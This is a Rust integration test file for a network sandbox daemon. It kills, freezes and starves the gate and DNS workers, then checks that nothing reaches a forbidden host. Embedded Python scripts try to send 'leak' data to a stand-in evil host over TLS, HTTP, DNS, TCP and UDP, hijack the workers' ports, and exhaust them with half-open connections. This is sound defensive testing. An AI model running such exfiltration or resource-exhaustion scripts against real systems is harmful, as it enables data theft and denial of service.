//! The workers of a whole sandbox, killed, frozen, out of descriptors and out of memory: nothing passes meanwhile that
//! was not judged, nobody gets their ports, and in the end all works again.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

#[expect(dead_code, reason = "other tests use the rest of it")]
mod internet;
#[expect(dead_code, reason = "other tests use the rest of it")]
mod lab;

use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use internet::{Internet, ResolverAsks, Who};

const GATE: &str = "sandboxd-gate";
const DNS: &str = "sandboxd-dns";
const PYTHON: &str = "/usr/bin/python3";
/// The daemon calls a worker frozen after ten seconds; a busy machine takes longer.
const PATIENCE: Duration = Duration::from_secs(90);

/// Every way to the forbidden host that a user has, again and again, for some seconds: by its own name and by a listed
/// one, in TLS, HTTP, DNS, raw TCP and UDP.
const HAMMER: &str = r#"
import socket, ssl, sys, time
EVIL, EVIL6 = "203.0.113.66", "2001:db8:113::66"
careless = ssl.create_default_context()
careless.check_hostname, careless.verify_mode = False, ssl.CERT_NONE
def dial(host, port):
    return socket.create_connection((host, port), 0.5)
def tls(name):
    careless.wrap_socket(dial(EVIL, 443), server_hostname=name).close()
def tell(host, port, data):
    with dial(host, port) as sock:
        sock.sendall(data)
def udp(host, port, data):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(data, (host, port))
question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4leak\4evil\4test\0\0\1\0\1"
ways = [lambda: tls("www.evil.test"), lambda: tls("api.example"), lambda: tell(EVIL, 8080, b"leak"), lambda: tell(EVIL6, 8080, b"leak"),
    lambda: tell(EVIL, 80, b"GET / HTTP/1.1\r\nHost: api.example\r\n\r\n"), lambda: udp(EVIL, 4000, b"leak"), lambda: udp(EVIL6, 4000, b"leak"),
    lambda: udp(EVIL, 53, question), lambda: udp("127.0.0.11", 53, question), lambda: tell(EVIL, 53, b"\0\x1f" + question)]
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    for way in ways:
        try:
            way()
        except OSError:
            pass
"#;

/// Tries to bind the workers' ports again and again, for some seconds, and says how many of the tries succeeded. Each is
/// made on every address that covers loopback, with what lets several share a port.
const TAKE: &str = r#"
import socket, sys, time
taken = tries = 0
end = time.monotonic() + float(sys.argv[1])
while tries == 0 or time.monotonic() < end:
    for kind, port in ((socket.SOCK_STREAM, 15443), (socket.SOCK_STREAM, 15080), (socket.SOCK_STREAM, 15353), (socket.SOCK_DGRAM, 15353)):
        for host in ("127.0.0.1", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1"):
            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                tries += 1
                try:
                    sock.bind((host, port))
                    taken += 1
                except OSError:
                    pass
    if "once" in sys.argv:
        break
print(taken, "of", tries if "once" in sys.argv else "many")
"#;

/// Makes whatever it talks to hold much: heads and hellos without an end, and questions that stay half asked.
const FILL: &str = r#"
import socket, time
kept = []
for number in range(300):
    for port, start in ((80, b"GET /" + b"x" * 20000), (443, b"\x16\3\1\x3f\xff\1\0\xff\xff" + b"x" * 16000), (53, b"\xff\xff" + b"x" * 20000)):
        try:
            sock = socket.create_connection(("203.0.113.10", port), 0.2)
            sock.settimeout(0.05)
            kept.append(sock)
            sock.sendall(start)
        except OSError:
            pass
time.sleep(1)
"#;

struct Sandbox(Internet);

impl Sandbox {
    /// In force, with nothing of it disturbed; or why this test does not run.
    fn start() -> Option<Self> {
        let sandbox = Self::not_yet()?;
        sandbox.0.start_sandbox();
        assert!(sandbox.works(), "a listed host can be reached before anything is disturbed");
        Some(sandbox)
    }

    fn not_yet() -> Option<Self> {
        let programs = ["/usr/bin/prlimit", "/usr/bin/curl", PYTHON];
        let missing = programs.iter().any(|program| !std::path::Path::new(program).exists());
        if !rustix::process::geteuid().is_root() || missing {
            assert!(std::env::var_os("CI").is_none(), "these tests need root and {programs:?}");
            eprintln!(
                "SKIPPED: this test needs {programs:?}, and root to make network namespaces: run it with sudo"
            );
            return None;
        }
        Some(Self(Internet::new(ResolverAsks::FromTheContainer)))
    }

    /// Starts a program in the container.
    fn spawn(&self, who: Who, words: &[&str]) -> Child {
        let mut command = self.0.command(who);
        command.args(words).env("CA", self.0.folder().join("ca.pem"));
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap()
    }

    /// What a program in the container prints, and whether it succeeded.
    fn run(&self, who: Who, words: &[&str]) -> (String, bool) {
        let output = self.spawn(who, words).wait_with_output().unwrap();
        (String::from_utf8_lossy(&output.stdout).trim().to_owned(), output.status.success())
    }

    /// A worker's process number in the container.
    fn pids(&self, name: &str) -> Vec<String> {
        let script =
            "for d in /proc/[0-9]*; do read -r n <$d/comm && [ \"$n\" = $0 ] && echo ${d#/proc/}; done; true";
        let found = self.run(Who::Root, &["sh", "-c", script, name]).0;
        found.lines().map(str::to_owned).collect()
    }

    /// All workers of a name, of which there is one a processor and two at most for the gate.
    fn running(&self, name: &str) -> Vec<String> {
        let processors = std::thread::available_parallelism().map_or(1, usize::from);
        let wanted = if name == GATE { processors.min(2) } else { 1 };
        let mut pids = Vec::new();
        wait_for(&format!("{name} runs"), || {
            pids = self.pids(name);
            pids.len() == wanted
        });
        pids
    }

    /// All workers of a name, as uid 0 without a capability may do it to what is uid 0, too.
    fn signal(&self, name: &str, signal: &str) -> Vec<String> {
        let pids = self.running(name);
        for pid in &pids {
            assert!(self.run(Who::Root, &["kill", signal, pid]).1, "kill {signal} {name}");
        }
        pids
    }

    /// Waits until none of these run, and as many others do.
    fn wait_for_others(&self, name: &str, before: &[String]) {
        wait_for(&format!("another {name}"), || {
            let now = self.pids(name);
            now.len() >= before.len() && !now.iter().any(|pid| before.contains(pid))
        });
    }

    /// Whether a listed host is reached, by a name that is asked for and a connection through the gate.
    fn works(&self) -> bool {
        let curl = "getent hosts api.example && curl -sf --cacert $CA --max-time 5 https://api.example/";
        self.run(Who::User, &["sh", "-c", curl]).1
    }

    fn works_again(&self) {
        wait_for("a listed host is reached again", || self.works());
    }

    /// How many tries to bind the workers' ports succeeded, within some seconds; both users try.
    fn take_ports(&self, seconds: &str) -> Vec<String> {
        let both = [Who::User, Who::Root].map(|who| self.spawn(who, &[PYTHON, "-c", TAKE, seconds]));
        both.into_iter()
            .map(|child| String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).trim().to_owned())
            .collect()
    }

    /// Tries everything for some seconds, while something happens.
    fn hammer_while(&self, seconds: &str, disturb: impl FnOnce()) {
        let hammers = [Who::User, Who::Root].map(|who| self.spawn(who, &[PYTHON, "-c", HAMMER, seconds]));
        disturb();
        for hammer in hammers {
            assert!(hammer.wait_with_output().unwrap().status.success(), "the hammer itself works");
        }
    }

    /// Whatever reached the forbidden host, or left for it, or asked for its names.
    fn leaks(&self) -> Vec<String> {
        let told = ["evil:", "at=evil", "evil.test", "dst=203.0.113.66", "dst=2001:db8:113::66"];
        let events = self.0.events.all().into_iter();
        events.filter(|event| told.iter().any(|word| event.contains(word))).collect()
    }
}

fn wait_for(what: &str, mut is_so: impl FnMut() -> bool) {
    let deadline = Instant::now() + PATIENCE;
    while !is_so() {
        assert!(Instant::now() < deadline, "not in {PATIENCE:?}: {what}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

const NONE: [&str; 2] = ["0 of many", "0 of many"];

#[test]
fn without_the_sandbox_the_same_tries_succeed() {
    let Some(open) = Sandbox::not_yet() else { return };
    open.hammer_while("1", || ());
    assert!(open.leaks().len() > 10, "{:?}", open.leaks());
    for who in [Who::User, Who::Root] {
        assert_eq!(open.run(who, &[PYTHON, "-c", TAKE, "1", "once"]).0, "20 of 20");
    }
}

#[test]
fn killed_workers_are_replaced_and_nobody_gets_their_ports() {
    let Some(sandbox) = Sandbox::start() else { return };
    assert_eq!(sandbox.take_ports("0.1"), NONE, "while they run");
    sandbox.hammer_while("6", || {
        std::thread::scope(|scope| {
            let taken = scope.spawn(|| sandbox.take_ports("6"));
            for _ in 0..2 {
                let killed = [GATE, DNS].map(|name| (name, sandbox.signal(name, "-KILL")));
                for (name, pids) in killed {
                    sandbox.wait_for_others(name, &pids);
                }
            }
            assert_eq!(taken.join().unwrap(), NONE);
        });
    });
    sandbox.works_again();
    assert_eq!(sandbox.leaks(), [""; 0]);
}

#[test]
fn frozen_workers_are_replaced_and_nobody_gets_their_ports() {
    let Some(sandbox) = Sandbox::start() else { return };
    let frozen = [GATE, DNS].map(|name| (name, sandbox.signal(name, "-STOP")));
    sandbox.hammer_while("3", || assert_eq!(sandbox.take_ports("2"), NONE));
    for (name, pids) in frozen {
        sandbox.wait_for_others(name, &pids);
    }
    sandbox.works_again();
    assert_eq!(sandbox.leaks(), [""; 0]);
}

#[test]
fn without_descriptors_nothing_passes_and_with_them_all_works_again() {
    let Some(sandbox) = Sandbox::start() else { return };
    let limit = |name: &str, limit: &str| {
        let pids = sandbox.running(name);
        for pid in &pids {
            let limit = format!("--nofile={limit}");
            assert!(sandbox.run(Who::Root, &["prlimit", "--pid", pid, &limit]).1, "{name}");
        }
        pids
    };
    // As many as they have. The soft limit alone, so that it can be taken back.
    let before = [(GATE, "3:"), (DNS, "5:")].map(|(name, most)| limit(name, most));
    sandbox.hammer_while("3", || {
        let curl = "curl -sf --cacert $CA --max-time 2 https://api.example/";
        assert!(!sandbox.run(Who::User, &["sh", "-c", curl]).1, "nobody can take the connection");
        assert_eq!(sandbox.take_ports("1"), NONE);
    });
    let after = [(GATE, "512:"), (DNS, "16:")].map(|(name, most)| limit(name, most));
    assert_eq!(before, after, "they stood it");
    sandbox.works_again();
    assert_eq!(sandbox.leaks(), [""; 0]);
}

#[test]
fn without_memory_nothing_passes_and_a_new_worker_takes_over() {
    let Some(sandbox) = Sandbox::start() else { return };
    let gate = sandbox.running(GATE);
    for name in [GATE, DNS] {
        for pid in sandbox.running(name) {
            // Not a byte more than it has.
            assert!(sandbox.run(Who::Root, &["prlimit", "--pid", &pid, "--as=1:1"]).1, "{name}");
        }
    }
    sandbox.hammer_while("4", || {
        assert!(sandbox.run(Who::User, &[PYTHON, "-c", FILL]).1);
        assert_eq!(sandbox.take_ports("2"), NONE);
    });
    wait_for("another gate", || sandbox.pids(GATE).iter().any(|pid| !gate.contains(pid)));
    sandbox.works_again();
    assert_eq!(sandbox.leaks(), [""; 0]);
}
